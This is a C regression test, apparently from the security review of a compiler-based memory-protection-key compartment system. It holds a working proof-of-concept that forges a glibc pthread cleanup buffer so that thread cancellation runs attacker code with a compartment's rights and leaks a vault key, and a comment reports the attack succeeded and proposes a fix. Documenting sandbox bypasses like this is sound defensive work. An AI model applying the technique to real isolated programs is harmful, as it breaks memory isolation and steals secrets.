// Review 25, attacker model A (key-0 stores; the cancellation itself is
// the program's own pthread_cancel). A thread cancelled while in a
// compartment unwinds with the compartment's rights: glibc 2.36's
// cancellation point (here usleep's nanosleep, called by the vault) finds
// the request and calls __pthread_unwind, whose stop function
// (unwind_stop, run by libgcc_s for every frame) walks the thread's list
// of old-style cleanup buffers (struct pthread's cleanup word: the TCB,
// key-0 memory) and calls each buffer's __routine(__arg) whose frame the
// unwinding has left, comparing addresses relative to the top of the
// thread's stack. runtime/unwind-find.c keeps the FDEs read-only; this
// list is not. Here the thread runs on a stack the program gave it
// (pthread_attr_setstack, key-0 memory it mapped), so the "top" is known; the program
// stores into the thread's cleanup word (its offset found with
// _pthread_cleanup_push, as a reader of libc's binary would) the address
// of a forged buffer just above that top, whose routine is steal, a
// function of the program's whose address is taken in asm, so no gate
// wraps it. The vault's usleep then runs it with the vault's rights: it
// copies the vault's key and prints it (ATTACK SUCCEEDED; seen in the
// guest, review 25, with the filter; built with -fno-pkey-syscall-filter
// the forged routine is entered as well (a debug print showed it), but
// the process then dies of SIGSEGV before the key is printed (not looked
// into); a thread on a stack
// glibc allocated: not tried, the forged buffer must then sit where the
// comparison lets it). The control forges nothing (the cancelled thread
// then ends: "nothing stolen"). libc's _Unwind_ForcedUnwind word
// (attacks-rev25-backtrace-link.c) and the thread's cleanup_jmp_buf
// (its target demangled with the key-0 pointer guard) are on the same
// path (not tried).
// Suggested fix: a cancellation point reached with a compartment's rights
// must not unwind with them: the pass could make compartment code's
// calls to cancellation points run with cancellation disabled (or through
// the default domain), acting on a pending cancel only after the
// compartment returns.
// XFAIL: *
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -O2 -pthread %s -o %t
// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
// RUN: %run %t | FileCheck %s
// CONTROL: cleanup word at
// CONTROL: nothing stolen
// CHECK: cleanup word at
// CHECK-NOT: ATTACK SUCCEEDED
#define _GNU_SOURCE
#include <bulkhead.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

BULKHEAD_DATA(vault) char vault_key[32] = "TOP-SECRET-VAULT-KEY";

BULKHEAD_ENTRY(vault) int vault_nap(void) {
  usleep(1000); /* a cancellation point, with the vault's rights */
  return vault_key[0];
}

static char stolen[40] = "ATTACK SUCCEEDED: ";
static const char *volatile from = vault_key; /* key-0 words */
static char *volatile to = stolen + 18;

__attribute__((used)) void steal(void *arg) {
  (void)arg;
  for (int i = 0; i < 20; i++)
    to[i] = from[i];
  to[20] = '\n';
  write(1, stolen, 39);
  _exit(0);
}

enum { STACK = 1 << 20 };
static char *area; /* the thread's stack and a page above it */
static volatile int go;

static void *worker(void *arg) {
  (void)arg;
  while (!go)
    ;
  vault_nap();
  return NULL;
}

/* glibc's old-style cleanup API (exported; its header hides it). */
void _pthread_cleanup_push(struct _pthread_cleanup_buffer *,
                           void (*)(void *), void *);
void _pthread_cleanup_pop(struct _pthread_cleanup_buffer *, int);

/* The offset of the cleanup word in glibc's struct pthread. */
static long cleanup_offset(void) {
  struct _pthread_cleanup_buffer b;
  _pthread_cleanup_push(&b, (void (*)(void *))steal, NULL);
  uintptr_t *self = (uintptr_t *)pthread_self();
  long off = -1;
  for (long i = 0; i < 512 && off < 0; i++)
    if (self[i] == (uintptr_t)&b)
      off = i * 8;
  _pthread_cleanup_pop(&b, 0);
  return off;
}

int main(int argc, char **argv) {
  (void)argv;
  long off = cleanup_offset();
  printf("cleanup word at %ld\n", off);
  fflush(stdout);
  area = mmap(NULL, STACK + 4096, PROT_READ | PROT_WRITE,
              MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (area == MAP_FAILED)
    return 1;
  pthread_attr_t a;
  pthread_attr_init(&a);
  pthread_attr_setstack(&a, area, STACK);
  pthread_t t;
  if (pthread_create(&t, &a, worker, NULL) || off < 0)
    return 1;
  pthread_cancel(t); /* deferred: acted on at the next cancellation point */
  if (argc < 2) {
    struct _pthread_cleanup_buffer *forged =
        (struct _pthread_cleanup_buffer *)(area + STACK);
    uintptr_t p;
    __asm__("leaq steal(%%rip), %0" : "=r"(p));
    forged->__routine = (void (*)(void *))p;
    forged->__prev = NULL;
    *(uintptr_t *)((char *)t + off) = (uintptr_t)forged; /* the store */
  }
  go = 1;
  void *r;
  pthread_join(t, &r);
  puts("nothing stolen");
  return 0;
}
